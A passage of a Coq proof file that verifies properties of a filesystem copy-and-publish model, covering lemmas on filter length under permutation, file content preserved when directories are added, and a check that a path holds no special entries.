  - cbn in *. injection H as <- <-. unfold ret. by rewrite set_fs_id.
  - cbn [Publish.copy_items copy_items_fs] in *. unfold bind.
    destruct (copy_item_fs E src dst item (w_fs w)) as [[k fs1]|e] eqn:Hstep;
      [|discriminate].
    rewrite (copy_item_of_fs item w k fs1 Hstep).
    destruct (copy_items_fs E src dst items fs1) as [[m fs2]|e] eqn:Hrest;
      [|discriminate].
    rewrite (IH (set_fs fs1 w) m fs2 Hrest).
    injection H as <- <-. reflexivity.
Qed.

End Worlds.

Lemma length_filter_Permutation {A} (f : A -> bool) (l l' : list A) :
  l ≡ₚ l' -> length (List.filter f l) = length (List.filter f l').
Proof.
  induction 1 as [|x l l' _ IH|x y l|l1 l2 l3 _ IH1 _ IH2].
  - reflexivity.
  - cbn. destruct (f x); cbn; by rewrite IH.
  - cbn. by destruct (f x), (f y).
  - by rewrite IH1.
Qed.

(** An entry walking the source lists keeps its content, or its lack of
    one, when directories are added. *)
Lemma file_content_adds_dirs E src fs fs' item :
  adds_dirs fs fs' ->
  item ∈ FS.glob_rec E src fs ->
  file_content E item fs' = file_content E item fs.
Proof.
  intros Hadd Hin.
  apply elem_of_glob_rec in Hin as (_ & S & rel & HS & Hrel & ->).
  apply elem_of_below in Hrel as (Hne & Hnames & Hwalk & [n Hn]).
  pose proof (adds_dirs_grows fs fs' Hadd) as Hg.
  unfold file_content, FS.read_bytes.
  rewrite (locate_entry E src S rel fs HS Hnames).
  rewrite (locate_entry E src S rel fs' (locate_grows E src fs fs' S Hg HS)
             Hnames).
  rewrite (walk_name fs "" _ rel S _ Hwalk).
  rewrite (walk_name fs' "" _ rel S _ (walk_grows fs fs' "" rel S _ Hg Hwalk)).
  rewrite !(stat_app _ S rel Hne).
  destruct (Hadd (S ++ rel)%list) as [->|[Hnone _]]; [reflexivity|congruence].
Qed.

(** What the test [ordinary_below] says. *)
Lemma ordinary_below_plain E p fs L :
  ordinary_below E p fs = true -> FS.locate E p fs = Ok L -> plain fs L.
Proof.
  unfold ordinary_below. intros Hord HL. rewrite HL in Hord.
  intros rel r d Hl. rewrite forallb_forall in Hord.
  specialize (Hord ((L ++ rel)%list, Special r d)).
  cbn [fst snd] in Hord. rewrite strip_app in Hord.
  assert (false = true); [|discriminate].
  apply Hord, list_elem_of_In. by apply elem_of_map_to_list.
Qed.


